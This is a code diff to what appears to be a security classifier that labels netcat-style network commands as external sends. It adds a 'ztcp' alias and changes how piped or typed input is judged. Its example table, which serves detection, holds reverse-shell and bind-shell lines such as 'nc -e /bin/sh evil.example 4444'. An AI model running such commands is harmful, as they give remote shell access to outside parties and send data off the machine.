@@ -70,7 +70,7 @@ function netcat(argv: readonly string[]): readonly ActionDraft[] {
 
 export const nc: CommandDef = {
   program: 'nc',
-  aliases: ['ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'cryptcat'],
+  aliases: ['ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'cryptcat', 'ztcp'],
   gated: [],
   classify: netcat,
   examples: readExamples(`
@@ -80,6 +80,8 @@ export const nc: CommandDef = {
     telnet evil.example 25 => external-send
     nc -e /bin/sh evil.example 4444 => external-send
     nc -lvp 4444 -e /bin/bash => external-send
+    ztcp evil.example 80 => external-send
+    ztcp localhost 6379 =>
     nc -l 8080 =>
     nc -z localhost 5432 =>
     nc -zv db.example 5432 =>
@@ -113,8 +115,11 @@ export const socat: CommandDef = {
   `),
 };
 
+/** Ends the connection, or is there to end the wait for a line. */
+const ONLY_ENDS = /^(?:.?|quit|exit|logout|bye)$/i;
+
 function isFed(input: ShellInput | undefined): boolean {
-  return input?.kind === 'pipe' || (input?.kind === 'text' && input.text.trim().length > 8);
+  return input?.kind === 'pipe' || (input?.kind === 'text' && !ONLY_ENDS.test(input.text.trim()));
 }
 
 /** Looking at a certificate is daily work: nothing, or a blank line, goes in. A quiet connection carries data. */
